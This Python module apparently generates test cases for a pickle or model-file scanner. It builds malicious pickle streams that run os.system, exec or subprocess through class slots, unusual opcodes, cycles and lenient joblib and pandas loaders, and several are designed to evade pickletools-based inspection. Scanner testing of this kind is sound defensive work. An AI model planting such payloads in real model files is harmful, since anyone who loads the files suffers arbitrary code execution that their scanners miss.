"""What the unpicklers accept and readers of opcodes do not expect: slots of classes, odd arguments, cycles.

A mutation helper of `mutated.py`; it has no cases of its own.
"""

from __future__ import annotations

import struct

from attacks.case import (
    CANARY,
    SHELL,
    STATEMENT,
    Raw,
    call,
    called,
    glob,
    long,
    push,
    short,
    stack_glob,
    stream,
    system,
)

OS_SYSTEM = glob("os", "system")
NAMESPACE = Raw(glob("argparse", "Namespace") + b")\x81")
RUN = call("functools", "partial", OS_SYSTEM, SHELL)
TAIL = push((SHELL,)) + b"R"


def classed(slots: dict[str, object], base: str = "object") -> Raw:
    """An instance of a class that the stream makes."""
    return called(call("builtins", "type", "Weight", (glob("builtins", base),), slots))


def attributed(**values: object) -> Raw:
    return Raw(NAMESPACE + push(values) + b"b")


def slots() -> dict[str, tuple[Raw, str]]:
    """Opcodes, or honest calls, that reach a callable through an attribute or a slot."""
    module = glob("sys", "modules") + push("weights") + classed({"__getattr__": OS_SYSTEM}) + b"s0"
    shown = called(glob("builtins", "str"), classed({"__str__": RUN}))
    forward = built(call("torch.nn", "Identity"), {"forward": OS_SYSTEM})
    return {
        "build": (Raw(attributed(__setstate__=OS_SYSTEM) + push(SHELL) + b"b"), "BUILD calls the instance's own __setstate__"),
        "append": (Raw(attributed(append=OS_SYSTEM) + push(SHELL) + b"a"), "APPEND calls the instance's own append"),
        "appends": (Raw(attributed(extend=glob("subprocess", "Popen")) + b"(" + push("touch") + push(CANARY) + b"e"), "APPENDS calls the instance's own extend"),
        "additems": (Raw(attributed(add=OS_SYSTEM) + b"(" + push(SHELL) + b"\x90"), "ADDITEMS calls the instance's own add"),
        "setitem": (Raw(classed({"__setitem__": glob("builtins", "exec")}) + push(STATEMENT) + b"}s"), "SETITEM is exec of key and value"),
        "setitems-class": (Raw(classed({"__setitem__": glob("builtins", "exec")}, "dict") + b"(" + push(STATEMENT) + b"}u"), "SETITEMS of a dict that is exec"),
        "global": (Raw(module + glob("weights", SHELL)), "GLOBAL asks a module that is os.system for a command"),
        "hash": (Raw(b"}" + classed({"__hash__": RUN}) + b"Ns"), "a key whose hash is a command"),
        "frozen-hash": (Raw(b"(" + classed({"__hash__": RUN}) + b"\x91"), "an item of a frozenset whose hash is a command"),
        "del": (Raw(classed({"__del__": RUN}) + b"0N"), "an object whose end is a command"),
        "iter": (call("builtins", "list", classed({"__iter__": RUN})), "a list of an object whose iterator is a command"),
        "missing": (called(stack_glob("operator", "getitem"), classed({"__missing__": OS_SYSTEM}, "dict"), SHELL), "a missing key is a command"),
        "call": (called(classed({"__call__": OS_SYSTEM}), SHELL), "an instance that is called"),
        "str": (shown, "the text of an object"),
        "fspath": (call("io", "open", classed({"__fspath__": RUN})), "the path of an object"),
        "index": (call("builtins", "bytes", classed({"__index__": RUN})), "the number of an object"),
        "forward": (called(forward, SHELL), "a torch module whose forward is in its state"),
        "array": (call("numpy", "asarray", classed({"__array__": RUN})), "an object that numpy asks for its array"),
        "copy": (call("copy", "_reconstruct", None, None, OS_SYSTEM, (SHELL,)), "copy's own reading of a reduced object"),
        "set-attribute": (Raw(classed({"__setattr__": glob("builtins", "exec")}) + push((None, {STATEMENT: {}})) + b"b"), "slots state of an object whose setattr is exec"),
    }  # fmt: skip


def built(instance: Raw, state: object) -> Raw:
    return Raw(instance + push(state) + b"b")


def method(module: str, name: str, instance: Raw, *arguments: object) -> Raw:
    return called(stack_glob(module, name), instance, *arguments)


def odd_streams() -> dict[str, tuple[bytes, str]]:
    """Streams that the unpickler reads, with arguments and shapes that pickletools or a walk of the objects does not survive."""
    body, four = bytes(system()), b"\x80\x04"
    renamed = call("importlib", "import_module", "os") + push({"größe": OS_SYSTEM}) + b"b0"
    counted = (
        short("re")
        + b"q\x050"
        + short("numpy")
        + b"q\x050"
        + short("os")
        + b"\x940"
        + short("json")
        + b"\x940h\x01"
        + short("system")
        + b"\x93"
    )
    return {
        "hex-integer": (b"I0x10\n0" + body + b".", "INT in hexadecimal"),
        "hex-long": (b"L0xfffffffffffffffL\n0" + body + b".", "LONG in hexadecimal"),
        "octal-integer": (b"I0o17\n0I0b11\n0" + body + b".", "INT in octal and binary"),
        "hex-huge": (b"I0x" + b"f" * 9000 + b"\n0" + body + b".", "INT too large to be shown in decimal"),
        "long-huge": (four + b"\x8b" + struct.pack("<i", 90_000) + b"\x7f" * 90_000 + b"0" + body + b".", "LONG4 too large to be shown in decimal"),
        "float-words": (b"Finfinity\n0F-nan\n0" + body + b".", "floats as words"),
        "global-utf8": (four + renamed + "cos\ngröße\n".encode() + TAIL + b".", "GLOBAL whose name is not ASCII"),
        "memo-counted": (four + counted + TAIL + b".", "MEMOIZE after one number was put twice"),
        "marks-popped": (four + b"(0" * 500 + b"((00" + body + b".", "POP of marks"),
        "cycle": (four + b"]q\x00h\x00a0}q\x01(" + push("self") + b"h\x01u0" + body + b".", "a list and a dict that hold themselves"),
        "cycle-argument": (four + b"]q\x00h\x00ah\x00" + glob("os", "system") + b"a0" + body + b".", "a cycle that holds the function"),
        "shared-60": (four + b"N" + b"2\x86" * 60 + b"0" + body + b".", "sixty pairs of the same pair: 2**60 leaves"),
        "shared-argument": (four + glob("os", "system") + b"N" + b"2\x86" * 60 + b"(" + push(SHELL) + b"t\x86" + b"0" + body + b".", "the function beside 2**60 leaves"),
        "state-after-call": (four + body + b"0" + b"]" * 3 + b"aa" + push({}) + b"b.", "BUILD that fails after the payload"),
        "proto-in-text": (four + long("\x80\x04.") + b"\x80\x00\x80\x05" + b"0" + body + b".", "headers in a text and between objects"),
        "bytes-nul-global": (four + b"C\x08\x80\x04N.cos\n0" + body + b".", "a whole stream and the start of a name as bytes"),
    }  # fmt: skip


def lenient_streams() -> dict[str, tuple[bytes, str]]:
    """Streams that only the unpickler in Python reads, which joblib and pandas use: arguments need not be a tuple."""
    four, names = b"\x80\x04", attributed(__new__=glob("builtins", "getattr"), run=OS_SYSTEM)
    return {
        "list-arguments": (four + glob("os", "system") + push([SHELL]) + b"R.", "REDUCE with a list"),
        "dict-arguments": (four + glob("os", "system") + push({SHELL: 1}) + b"R.", "REDUCE with the keys of a dict"),
        "set-arguments": (four + glob("os", "system") + b"(" + push(SHELL) + b"\x91R.", "REDUCE with a frozenset"),
        "iterator-arguments": (
            four + glob("os", "system") + call("builtins", "iter", [SHELL]) + b"R.",
            "REDUCE with an iterator",
        ),
        "newobj-of-instance": (
            four + names + push(("run",)) + b"\x81" + TAIL + b".",
            "NEWOBJ of an instance whose __new__ is getattr",
        ),
    }


def protocol_cases() -> list[tuple[str, bytes, str, str, str]]:
    """Name, bytes, path, loader, note."""
    rows = [(f"slot-{name}", stream(body), "model.pkl", "pickle", note) for name, (body, note) in slots().items()]
    rows += [(f"odd-{name}", data, "model.pkl", "pickle", note) for name, (data, note) in odd_streams().items()]
    for name, (data, note) in lenient_streams().items():
        rows.append((f"lenient-joblib-{name}", data, "model.joblib", "joblib", note))
        if "newobj" not in name:
            rows.append((f"lenient-pandas-{name}", data, "frame.pkl", "pandas", note))
    return rows
